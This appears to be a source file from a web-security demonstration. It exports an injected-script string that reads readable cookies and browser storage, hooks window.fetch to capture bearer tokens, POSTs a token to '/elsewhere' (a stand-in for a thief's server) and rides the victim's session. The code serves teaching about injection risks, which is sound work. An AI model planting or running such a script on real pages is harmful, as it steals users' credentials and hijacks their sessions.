/**
 * What somebody has got into the page: by a comment that was not escaped, by a poisoned package, by an extension. The
 * same text runs in both copies. It takes what a script can take, and says what it got; the token itself it shows to
 * nobody but "elsewhere", which stands for the thief's own server.
 */
export const injectedScript = `(async () => {
  const report = (what, got) => dispatchEvent(new CustomEvent('harvest', { detail: { what, got } }));
  const send = window.fetch;

  report('Cookies that a script can read', document.cookie || 'none');
  report('Storage', JSON.stringify({ ...localStorage, ...sessionStorage }));

  // Whatever the page sends from now on passes through here.
  let token;
  window.fetch = (address, options) => {
    token ??= new Headers(options?.headers).get('authorization')?.replace(/^Bearer /, '');
    return send(address, options);
  };
  const heard = new Promise((done) => addEventListener('birthdays', done, { once: true }));
  document.getElementById('read-again').click();
  await heard;
  report('An access token', token ? token.slice(0, 4) + '… (' + token.length + ' characters)' : 'none');

  if (token) {
    const used = await send('/elsewhere', { method: 'POST', body: token });
    report('The API, called from elsewhere', await used.text());
  } else {
    report('The API, called from elsewhere', 'impossible without a token');
  }

  const ridden = await send('birthdays');
  const list = ridden.ok ? (await ridden.json()).items.length + ' birthdays, while this page is open' : 'no session';
  report('The session, ridden from this page', list);
  window.fetch = send;
})();
`;
